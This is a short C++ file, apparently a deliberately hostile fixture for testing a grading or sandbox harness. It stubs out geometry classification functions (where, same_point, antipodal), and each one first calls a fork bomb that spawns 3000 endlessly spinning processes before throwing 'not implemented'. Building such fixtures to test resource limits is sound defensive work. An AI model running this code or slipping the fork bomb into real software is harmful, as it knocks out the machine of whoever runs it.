// Hostile (issue 10): a fork bomb of spinning processes.
#include <unistd.h>
#include <stdexcept>
#include "classify.hpp"
namespace ex01 {
static void attack() {
  for (int i = 0; i < 3000; ++i)
    if (fork() == 0) for (;;) {}
}
Where where(const t2::Point&) { attack(); throw std::logic_error("where() is not implemented yet"); }
bool same_point(const t2::Point&, const t2::Point&) { attack(); throw std::logic_error("same_point() is not implemented yet"); }
bool antipodal(const t2::Point&, const t2::Point&) { attack(); throw std::logic_error("antipodal() is not implemented yet"); }
}  // namespace ex01
